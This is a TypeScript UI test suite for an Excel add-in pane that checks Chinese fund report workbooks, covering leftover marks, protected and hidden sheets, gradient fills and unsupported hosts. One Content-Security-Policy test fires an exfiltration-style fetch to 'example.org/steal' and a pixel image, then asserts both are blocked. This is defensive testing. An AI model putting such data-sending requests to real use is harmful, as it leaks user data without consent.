import { loadWorkbookModel } from '../hosts/excel/simulated/loadWorkbookModel';
import { hostCell, launchPane, noHorizontalScroll, screenshot, type Pane } from './harness';

let pane: Pane;

beforeAll(async () => {
  pane = await launchPane();
});

afterAll(async () => {
  await pane?.close();
});

describe('what the pane says in each state', () => {
  it('opened on a workbook an earlier check marked, says how many marks it left, beside 清除标记 and 重新核对; the legend explains the colours', async () => {
    const first = await pane.open(await loadWorkbookModel('hami-2019'));
    await first.getByRole('button', { name: '一键核对' }).click();
    await first.getByText('核对完成', { exact: false }).waitFor();
    // The legend under the summary names the three fills the marks use, and the one of a filled cell.
    await expect(first.getByTestId('legend').textContent()).resolves.toBe('表中颜色：错误警告连带问题已填写');
    const saved = await first.evaluate(() => JSON.parse(JSON.stringify(window.__fundcheckHost!.model)));
    await first.close();
    // The workbook reopened later, with the pane: the marks are still there, and the pane says so before any check.
    const page = await pane.open(saved);
    const banner = page.getByTestId('leftMarks');
    await banner.waitFor();
    await expect(banner.textContent()).resolves.toContain('上次核对留下 2 处标记。');
    expect((await hostCell(page, '收支分析表', 3, 6))?.fill?.color).toBe('#FFC7CE');
    await banner.getByRole('button', { name: '清除标记' }).click();
    await page.getByText(/已清除 \d+ 个单元格的标记/).waitFor();
    await expect(page.getByTestId('leftMarks').count()).resolves.toBe(0);
    expect((await hostCell(page, '收支分析表', 3, 6))?.fill ?? null).toBeNull();
    await page.close();
  });

  it('opens on a first screen that says what the add-in does and what to press', async () => {
    const page = await pane.open(await loadWorkbookModel('hami-2019'));
    const intro = page.getByTestId('intro');
    await expect(intro.textContent()).resolves.toMatch(/核对.*合计.*增长率.*点击“一键核对”开始/s);
    await noHorizontalScroll(page);
    await screenshot(page, 'pane-first-screen');
    await page.close();
  });

  it('says that no report table was found, and what one looks like, instead of 没有发现问题', async () => {
    const cells = { '0,0': { value: '会议纪要' }, '1,0': { value: '出席人员' }, '1,1': { value: '张三' }, '2,0': { value: 12 } };
    const page = await pane.open({ name: 'notes.xlsx', settings: {}, sheets: [{ name: '纪要', cells }] });
    await page.getByRole('button', { name: '一键核对' }).click();
    await page.getByTestId('no-tables').waitFor();
    await expect(page.getByTestId('no-tables').textContent()).resolves.toMatch(/没有找到报表表格.*收支.*自评表/s);
    await expect(page.getByText('没有发现问题').count()).resolves.toBe(0);
    await noHorizontalScroll(page);
    await screenshot(page, 'pane-no-tables');
    await page.close();
  });

  it('lists the findings of a protected sheet, leaves it unmarked and says so', async () => {
    const model = await loadWorkbookModel('hami-2019');
    model.sheets.find((s) => s.name === '收支分析表')!.protected = true;
    const page = await pane.open(model);
    await page.getByRole('button', { name: '一键核对' }).click();
    await page.locator('[data-cell="收支分析表!G4"]').waitFor();
    await page.getByText(/受保护，其中的问题只在下方列出/).waitFor();
    await expect(page.getByRole('heading', { name: /收支分析表（受保护，未标色）/ }).count()).resolves.toBe(1);
    expect(await page.evaluate(() => window.__fundcheckHost?.model.sheets[0].cells['3,6'].fill ?? null)).toBeNull();
    await noHorizontalScroll(page);
    await screenshot(page, 'pane-protected-check');
    await page.close();
  });

  it('leaves a cell with a gradient fill unmarked, since a gradient cannot be put back, and names it', async () => {
    const model = await loadWorkbookModel('hami-2019');
    const gradient = { pattern: 'Solid', gradient: { kind: 'LinearGradient' as const, stops: ['#FFFFFF', '#4472C4'] } };
    const sheet = model.sheets.find((s) => s.name === '收支分析表')!;
    sheet.cells['3,6'] = { ...sheet.cells['3,6'], fill: gradient };
    const page = await pane.open(model);
    await page.getByRole('button', { name: '一键核对' }).click();
    await page.locator('[data-cell="收支分析表!G4"]').waitFor();
    await page.getByText(/1 个单元格使用渐变底色，标色后无法还原，因此未标色：收支分析表!G4/).waitFor();
    expect(await page.evaluate(() => window.__fundcheckHost?.model.sheets[0].cells['3,6'].fill)).toEqual(gradient);
    await page.close();
  });

  it('lists a hidden sheet as hidden and says so instead of selecting on it', async () => {
    // A 自评表's findings are said wherever it lies; the pane cannot select on a hidden sheet and says why.
    const model = await loadWorkbookModel('bachu-2020');
    model.sheets.find((s) => s.name === '绩效自评表')!.visibility = 'Hidden';
    const page = await pane.open(model);
    await page.getByRole('button', { name: '一键核对' }).click();
    await page.getByRole('heading', { name: /绩效自评表（隐藏的工作表）/ }).waitFor();
    await page.locator('[data-cell="绩效自评表!D10"]').click();
    await page.getByText(/已隐藏，无法选中其中的单元格/).waitFor();
    expect(await page.evaluate(() => window.__fundcheckHost?.model.selection ?? null)).toBeNull();
    await page.close();
  });

  it('reports nothing in a fund table on a hidden sheet: what no reader sees is not the report (issue 18)', async () => {
    const model = await loadWorkbookModel('hami-2019');
    model.sheets.find((s) => s.name === '收支分析表')!.visibility = 'Hidden';
    const page = await pane.open(model);
    await page.getByRole('button', { name: '一键核对' }).click();
    await page.getByText('核对完成：未发现计算错误。').waitFor();
    await expect(page.locator('[data-cell="收支分析表!G4"]').count()).resolves.toBe(0);
    expect(await page.evaluate(() => window.__fundcheckHost?.model.sheets[0].cells['3,6'].fill ?? null)).toBeNull();
    await page.close();
  });

  it('cannot be made to load or send anything by the page: the Content-Security-Policy refuses it', async () => {
    const page = await pane.open(await loadWorkbookModel('hami-2019'));
    const blocked = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const fetched = await fetch('https://example.org/steal?d=1').then(
        () => 'sent',
        () => 'refused',
      );
      const img = document.createElement('img');
      img.src = 'https://example.org/pixel.png';
      document.body.appendChild(img);
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { fetched, violations };
    });
    expect(blocked.fetched).toBe('refused');
    expect(blocked.violations).toEqual(expect.arrayContaining(['connect-src', 'img-src']));
    expect(pane.foreignRequests).toEqual([]);
    await page.close();
  });
});

describe('where the pane cannot run', () => {
  it('explains in Chinese, without Office.js, what is unsupported and what to use instead', async () => {
    const page = await pane.open(null, { waitFor: '' });
    const alert = page.locator('[data-unsupported="noOffice"]');
    await alert.waitFor();
    await expect(alert.textContent()).resolves.toMatch(/没有加载到 Office\.js.*Microsoft 365.*Office 2021.*Excel 网页版.*WPS 表格/s);
    // The reason is the page's main content (a landmark a screen reader jumps to).
    await expect(page.getByRole('main').locator('[data-unsupported="noOffice"]').count()).resolves.toBe(1);
    await noHorizontalScroll(page);
    await screenshot(page, 'pane-unsupported-host');
    await page.close();
  });

  it('tells an Internet Explorer 11 host (Office 2016/2019) apart before the pane tries to start', async () => {
    const page = await pane.open(await loadWorkbookModel('hami-2019'), {
      initScript: 'Object.defineProperty(document, "documentMode", { value: 11 });',
      waitFor: '',
    });
    await page.locator('[data-unsupported="ie"]').waitFor();
    await expect(page.getByRole('button', { name: '一键核对' }).count()).resolves.toBe(0);
    await page.close();
  });

  it('says so when Excel lacks the requirement set the add-in needs', async () => {
    const model = { ...(await loadWorkbookModel('hami-2019')), excelApi: 3 };
    const page = await pane.open(model, { waitFor: '' });
    await page.locator('[data-unsupported="oldExcel"]').waitFor();
    await page.close();
  });
});
